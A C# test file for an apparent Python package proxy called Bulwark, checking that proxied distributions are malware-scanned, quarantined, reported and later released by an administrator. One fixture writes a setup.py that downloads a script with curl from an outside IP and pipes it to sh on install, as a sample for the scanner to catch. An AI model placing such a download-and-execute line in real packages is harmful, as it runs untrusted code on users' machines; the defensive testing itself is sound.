using System.Net;
using Bulwark.Core.Moderation.Reports;
using Bulwark.Core.Upstreams;
using Bulwark.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace Bulwark.Tests.Upstreams;

/// <summary>
/// Proxied distributions go through the upload malware scan once, after the sha256 check and before they are first
/// served: malicious holds the proxied release (quarantine + report), suspicious files a report and serves.
/// </summary>
public abstract class ProxiedFileScanTests<TServer>(TServer server) : UpstreamTestBase<TServer>(server) where TServer : UpstreamProxyServer
{
    private UpstreamTestFile AddSdist(string name, string version, params (string Name, string Content)[] extra)
    {
        var spec = new TestDistributions.Spec(name, version);
        var file = new UpstreamTestFile(spec.SdistFilename, TestDistributions.Sdist(spec, extra.Select(e => ($"{spec.Prefix}/{e.Name}", e.Content))));
        Upstream.Add(name, file);
        return file;
    }

    [Fact]
    public async Task A_malicious_proxied_file_is_refused_its_release_quarantined_and_reported_with_the_finding()
    {
        var name = UniqueName("proxmal");
        var good = Upstream.AddWheel(name, "1.0");
        var bad = AddSdist(name, "2.0", ("setup.py", "import os\nfrom setuptools import setup\nos.system('curl -s http://203.0.114.9/x | sh')\nsetup()\n"));
        var page = await JsonPageAsync(name);
        var badPath = FilePath(name, FileNamed(page, bad.Filename));

        var refused = await Client().GetAsync(badPath);
        Assert.Equal(HttpStatusCode.Forbidden, refused.StatusCode);
        Assert.Contains("malicious", refused.ReasonPhrase);
        Assert.Contains("quarantined", await refused.Content.ReadAsStringAsync());
        // Held, not served: listed no more, 404 on the next request, and the upstream was asked once.
        var after = await JsonPageAsync(name);
        Assert.Equal(["1.0"], Versions(after));
        Assert.Equal(HttpStatusCode.NotFound, (await Client().GetAsync(badPath)).StatusCode);
        Assert.Equal(1, Upstream.FileRequests(bad.Filename));
        Assert.Equal(HttpStatusCode.OK, (await Client().GetAsync(FilePath(name, FileNamed(after, good.Filename)))).StatusCode);

        var report = await Server.WithDbAsync(db => db.ProjectReports.AsNoTracking().SingleAsync(r => r.ProjectName == name));
        Assert.Equal((ReportKind.Malware, "2.0", (long?)null), (report.Kind, report.Version, report.ProjectId));
        Assert.Contains("shell-downloader", report.Summary);
        var finding = await Server.WithDbAsync(db => db.ModerationFindings.AsNoTracking().SingleAsync(f => f.ProjectName == name));
        Assert.Equal(("scan", bad.Filename), (finding.Detector, finding.Filename));
        Assert.Contains("curl", finding.Details);
        Assert.True(await Server.WithDbAsync(db => db.BlockedUpstreamVersions.AnyAsync(b => b.NormalizedName == name && b.Version == "2.0" && b.Source == ProxiedQuarantine.Source)));
        var (_, listed, _) = await CliAsync("report", "list");
        Assert.Contains(name, listed);

        // An administrator who finds it harmless lifts the quarantine: the stored file is served, not fetched or scanned again.
        var (lifted, _, liftErr) = await CliAsync("project", "unquarantine", name, "--version", "2.0");
        Assert.True(lifted == 0, liftErr);
        var served = await Client().GetAsync(badPath);
        Assert.Equal(HttpStatusCode.OK, served.StatusCode);
        Assert.Equal("cached", served.Headers.GetValues("X-Bulwark-Upstream").Single());
        Assert.Equal(1, Upstream.FileRequests(bad.Filename));
        Assert.Equal(1, await Server.WithDbAsync(db => db.ProjectReports.CountAsync(r => r.ProjectName == name)));
    }

    [Fact]
    public async Task A_suspicious_proxied_file_is_served_and_reported()
    {
        var name = UniqueName("proxsus");
        var file = AddSdist(name, "1.0", ("pkg/_pytransform.so", "not really a library"));
        var path = FilePath(name, FileNamed(await JsonPageAsync(name), file.Filename));

        var response = await Client().GetAsync(path);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(file.Listed, await response.Content.ReadAsByteArrayAsync());
        var report = await Server.WithDbAsync(db => db.ProjectReports.AsNoTracking().SingleAsync(r => r.ProjectName == name));
        Assert.Contains("suspicious", report.Summary);
        Assert.Contains("pyarmor", report.Summary);
        Assert.Equal(["1.0"], Versions(await JsonPageAsync(name)));
        // Scanned once: the cached file files no second report.
        Assert.Equal(HttpStatusCode.OK, (await Client().GetAsync(path)).StatusCode);
        Assert.Equal(1, await Server.WithDbAsync(db => db.ProjectReports.CountAsync(r => r.ProjectName == name)));
    }

    [Fact]
    public async Task A_clean_proxied_file_files_no_report()
    {
        var name = UniqueName("proxclean");
        var wheel = Upstream.AddWheel(name, "1.0");
        Assert.Equal(HttpStatusCode.OK, (await Client().GetAsync(FilePath(name, FileNamed(await JsonPageAsync(name), wheel.Filename)))).StatusCode);
        Assert.False(await Server.WithDbAsync(db => db.ProjectReports.AnyAsync(r => r.ProjectName == name)));
        Assert.False(await Server.WithDbAsync(db => db.ModerationFindings.AnyAsync(f => f.ProjectName == name)));
    }
}

public sealed class ProxiedFileScanTestsSqlite(SqliteUpstreamProxyServer s) : ProxiedFileScanTests<SqliteUpstreamProxyServer>(s), IClassFixture<SqliteUpstreamProxyServer>;

public sealed class ProxiedFileScanTestsPostgres(PostgresUpstreamProxyServer s) : ProxiedFileScanTests<PostgresUpstreamProxyServer>(s), IClassFixture<PostgresUpstreamProxyServer>;
